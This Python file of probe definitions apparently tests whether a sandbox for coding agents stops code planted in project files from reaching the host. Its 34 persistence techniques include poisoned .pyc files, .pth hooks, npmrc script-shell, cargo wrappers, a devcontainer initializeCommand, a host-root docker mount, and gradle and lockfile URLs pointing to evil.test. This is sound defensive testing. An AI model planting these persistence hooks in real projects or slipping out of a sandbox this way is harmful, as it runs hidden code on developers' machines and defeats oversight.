from probe_runner import *

klass('E', 'Project persistence through language ecosystems',
      correct='Ignored/generated locations (.venv, node_modules, __pycache__, target, dist) never reach the host unreviewed; tracked build files are named in the review report as "executes on your machine".',
      defence='Copy-on-write project; transfer only files that pass review; untracked+ignored executables, bytecode, virtualenvs and dependency trees stay in the private layer (shadow .venv/node_modules/target per sandbox).')
E = 'printf "#!/bin/sh\\n# @TOK@\\ntouch \\"@C@/@ID@\\"\\n" > '


def e(id, title, run, trigger, ref, landed=None, **k):
    probe(id, title, run, trigger=trigger, ref=ref, landed=landed, **k)


e('E01', 'poisoned __pycache__ (unchecked-hash .pyc, source untouched)', 'import importlib.util,importlib._bootstrap_external as b,marshal\nsrc=open("@P@/mod.py").read()+"\\nimport os; os.close(os.open(\'@C@/@ID@\',os.O_CREAT|os.O_WRONLY))\\n"\nc=compile(src,"@P@/mod.py","exec"); os.makedirs("@P@/__pycache__",exist_ok=True)\nopen("@P@/__pycache__/mod.@PYT@.pyc","wb").write(importlib.util.MAGIC_NUMBER+struct.pack("<L",1)+b"\\0"*8+marshal.dumps(c))', 'python3() { /usr/bin/python3 "$@"; }; python3 app.py', 'gthegenie.pages.dev/posts/pycache_poisoning', '__pycache__/mod.@PYT@.pyc', lang='py', defence='PYTHONDONTWRITEBYTECODE/PYTHONPYCACHEPREFIX inside; never transfer *.pyc')
e('E02', 'poisoned __pycache__ with matching mtime+size header', 'import importlib.util,marshal\nst=os.stat("@P@/mod.py"); src=open("@P@/mod.py").read()+"\\nimport os; os.close(os.open(\'@C@/@ID@\',os.O_CREAT|os.O_WRONLY))\\n"\nc=compile(src,"@P@/mod.py","exec"); os.makedirs("@P@/__pycache__",exist_ok=True)\nopen("@P@/__pycache__/mod.@PYT@.pyc","wb").write(importlib.util.MAGIC_NUMBER+struct.pack("<LLL",0,int(st.st_mtime),st.st_size)+marshal.dumps(c))', '/usr/bin/python3 app.py', 'classic persistence', None, lang='py')
e('E03', 'replace .venv/bin/python', 'rm .venv/bin/python; ' + E + '.venv/bin/python; chmod +x .venv/bin/python', '.venv/bin/python --version', 'rappdw/sandy#85 ("Week of Sandbox Escapes" issue C: IDE discovery runs .venv/bin/python)', '.venv/bin/python')
e('E04', '.pth file in the virtualenv', 'echo "import os; os.close(os.open(\'@C@/@ID@\',os.O_CREAT|os.O_WRONLY)) # @TOK@" > .venv/lib/python@PYV@/site-packages/x.pth', '.venv/bin/python -c pass', 'litellm .pth incident 2026-03 (pydevtools.com); krash.dev', '.venv/lib/python@PYV@/site-packages/x.pth')
e('E05', 'replace a console script of the virtualenv (.venv/bin/pytest)', E + '.venv/bin/pytest; chmod +x .venv/bin/pytest', '.venv/bin/pytest', 'rappdw/sandy#85', '.venv/bin/pytest')
e('E06', 'append to .venv/bin/activate', 'echo \'touch "@C@/@ID@" # @TOK@\' >> .venv/bin/activate', '. .venv/bin/activate', 'classic persistence', '.venv/bin/activate')
e('E07', 'pyvenv.cfg redirects the interpreter home', 'mkdir -p .h/lib; sed -i "s|^home.*|home = $PWD/.h|;\\$a # @TOK@" .venv/pyvenv.cfg', None, 'PEP 405', '.venv/pyvenv.cfg')
e('E08', 'shadow a standard module (json.py next to the script)', 'echo "import os; os.close(os.open(\'@C@/@ID@\',os.O_CREAT|os.O_WRONLY)) # @TOK@" > json.py', '/usr/bin/python3 app.py', 'sys.path[0] shadowing', 'json.py', tier=2)
e('E09', 'conftest.py', 'echo "import os; os.close(os.open(\'@C@/@ID@\',os.O_CREAT|os.O_WRONLY)) # @TOK@" > conftest.py', '/usr/bin/python3 -m pytest -q tests || /usr/bin/python3 -c "import sys; sys.path.insert(0,\'.\'); import conftest"', 'engineered.at (go test / dotnet test run attacker code)', 'conftest.py', tier=2)
e('E10', 'setup.py / pyproject build backend', 'printf "import os\\nos.close(os.open(\'@C@/@ID@\',os.O_CREAT|os.O_WRONLY))\\nfrom setuptools import setup\\nsetup(name=\'x\') # @TOK@\\n" > setup.py', '/usr/bin/python3 setup.py --version', 'pydevtools.com "why installing a package can run code"', 'setup.py', tier=2)
e('E11', 'replace node_modules/.bin/tsc', E + 'node_modules/.bin/tsc', 'npm run -s build', 'PostHog/posthog#87021 (node_modules/.bin planted binaries)', 'node_modules/.bin/tsc', needs=('npm',))
e('E12', 'edit an installed dependency (node_modules/dep)', 'echo \'require("fs").writeFileSync("@C@/@ID@","x"); // @TOK@\' >> node_modules/dep/index.js', 'node index.js', 'ignored directory, invisible in git diff', 'node_modules/dep/index.js', needs=('node',))
e('E13', 'package.json script', 'sed -i \'s|"test":"node index.js"|"test":"touch @C@/@ID@ # @TOK@"|\' package.json', 'npm test -s', 'fwdai/fletch#306 (Run panel)', 'package.json', tier=2, needs=('npm',))
e('E14', '.npmrc script-shell', E + 'sh.sh; chmod +x sh.sh; printf "script-shell=%s/sh.sh\\n; @TOK@\\n" "$PWD" > .npmrc', 'npm test -s', 'npm config; sandy R2 lists .npmrc', '.npmrc', needs=('npm',))
e('E15', '.npmrc node-options=--require', 'echo \'require("fs").writeFileSync("@C@/@ID@","x")\' > pre.js; printf "node-options=--require %s/pre.js\\n; @TOK@\\n" "$PWD" > .npmrc', 'npm test -s', 'npm config', '.npmrc', needs=('npm',))
e('E16', '.yarnrc.yml yarnPath', 'printf "yarnPath: ./evil.cjs # @TOK@\\n" > .yarnrc.yml; echo "x" > evil.cjs', None, 'Claude Code CVE-2025-59828 (yarn plugins before trust)', '.yarnrc.yml')
e('E17', '.pnpmfile.cjs', 'echo "module.exports={hooks:{}} // @TOK@" > .pnpmfile.cjs', None, 'pnpm docs', '.pnpmfile.cjs')
e('E18', 'edit the Makefile', 'printf "all:\\n\\ttouch \\"@C@/@ID@\\" # @TOK@\\n" > Makefile', 'make', 'opencode#2242', 'Makefile', tier=2, needs=('make',))
e('E19', 'new GNUmakefile takes precedence over the reviewed Makefile', 'printf "all:\\n\\ttouch \\"@C@/@ID@\\" # @TOK@\\n" > GNUmakefile', 'make', 'make(1) lookup order', 'GNUmakefile', needs=('make',))
e('E20', '.cargo/config.toml rustc-wrapper', 'mkdir -p .cargo; ' + E + 'w.sh; echo \'exec "$@"\' >> w.sh; chmod +x w.sh; printf "[build]\\nrustc-wrapper=\\"%s/w.sh\\" # @TOK@\\n" "$PWD" > .cargo/config.toml', 'CARGO_HOME=/tmp/ch cargo check -q --offline', 'cargo config; rust-analyzer runs it on open', '.cargo/config.toml')
e('E21', 'build.rs', 'echo \'fn main(){std::fs::write("@C@/@ID@","@TOK@").unwrap();}\' > build.rs', 'CARGO_HOME=/tmp/ch cargo check -q --offline', 'cargo build scripts', 'build.rs', tier=2, timeout=30)
e('E22', 'rust-toolchain.toml with a path toolchain', 'mkdir -p .tc/bin; ' + E + '.tc/bin/cargo; cp .tc/bin/cargo .tc/bin/rustc; chmod +x .tc/bin/*; printf "[toolchain]\\npath=\\"%s/.tc\\" # @TOK@\\n" "$PWD" > rust-toolchain.toml', 'CARGO_HOME=/tmp/ch cargo --version', 'rustup overrides', 'rust-toolchain.toml')
e('E23', 'replace a built artefact the developer runs (dist/app)', E + 'dist/app', './dist/app', 'ignored directory, invisible in git diff', 'dist/app')
e('E24', '.mvn/jvm.config -javaagent', 'mkdir -p .mvn; echo "-javaagent:evil.jar # @TOK@" > .mvn/jvm.config', None, 'Maven', '.mvn/jvm.config')
e('E25', 'gradle wrapper properties -> attacker distribution', 'mkdir -p gradle/wrapper; echo "distributionUrl=http://evil.test/g.zip # @TOK@" > gradle/wrapper/gradle-wrapper.properties', None, 'Gradle wrapper', 'gradle/wrapper/gradle-wrapper.properties')
e('E26', '.bundle/config / Gemfile', 'mkdir -p .bundle; echo "BUNDLE_PATH: evil # @TOK@" > .bundle/config', None, 'Bundler', '.bundle/config')
e('E27', 'ESLint flat config executed by the editor plugin', 'echo "module.exports=[] // @TOK@" > eslint.config.js', None, 'editor integrations execute it on open', 'eslint.config.js', tier=2)
e('E28', '.envrc for direnv', 'echo \'touch "@C@/@ID@" # @TOK@\' > .envrc', None, 'sandy R1/“.envrc”; direnv requires allow, which is often already granted', '.envrc')
e('E29', '.mise.toml / .tool-versions hooks', 'printf "[hooks]\\nenter=\\"touch @C@/@ID@\\" # @TOK@\\n" > .mise.toml', None, 'mise hooks', '.mise.toml')
e('E30', 'docker-compose.yml mounting / of the host', 'printf "services:\\n  x: {image: a, volumes: [\\"/:/host\\"]} # @TOK@\\n" > docker-compose.yml', None, 'sandcat#5 neighbour', 'docker-compose.yml', tier=2)
e('E31', '.devcontainer/devcontainer.json initializeCommand (runs on the host)', 'mkdir -p .devcontainer; echo \'{"initializeCommand":"touch @C@/@ID@"} // @TOK@\' > .devcontainer/devcontainer.json', None, 'VirtusLab/sandcat#5; rappdw/sandy#84', '.devcontainer/devcontainer.json')
e('E32', '.gdbinit / .exrc / .nvim.lua local rc files', 'echo "shell touch @C@/@ID@ # @TOK@" > .gdbinit; echo "\\" @TOK@" > .exrc; echo "-- @TOK@" > .nvim.lua', None, 'gdb auto-load, vim exrc', '.gdbinit')
e('E33', 'lock-file rewritten to an attacker registry', 'printf \'{"lockfileVersion":3,"packages":{"node_modules/dep":{"resolved":"http://evil.test/dep.tgz","integrity":"@TOK@"}}}\' > package-lock.json', None, 'lockfile injection', 'package-lock.json', tier=2)
e('E34', 'executable named like a habit in the project root (PATH contains .)', E + 'ls; chmod +x ls', 'PATH=.:$PATH; ls', 'PATH hijack', 'ls')
